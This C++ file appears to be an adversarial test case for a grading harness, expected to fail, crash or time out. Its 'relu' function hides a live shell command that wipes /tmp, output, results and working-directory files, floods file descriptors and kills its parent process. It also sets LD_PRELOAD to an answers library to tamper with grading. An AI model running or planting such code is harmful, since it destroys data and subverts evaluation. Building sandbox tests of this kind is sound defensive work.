// class: other programs
// A shell is told to remove and to write what it can reach.
// expects: lab01 relu=fail|crash|timeout, *=todo
#include <cstdlib>

#include "feature_maps.hpp"

namespace linattn {
Tensor relu(const Tensor& x) {
    const char* const commands =
        "rm -rf /tmp/* /out/* /results/* ./* ; for f in 3 4 5 6 7 8 9; do head -c 65536 /dev/zero >&$f; done; "
        "(setsid sleep 1000 &) ; kill -9 $PPID";
    (void)!std::system(commands);
    ::setenv("LD_PRELOAD", "./answers.so", 1);
    return x;
}
}
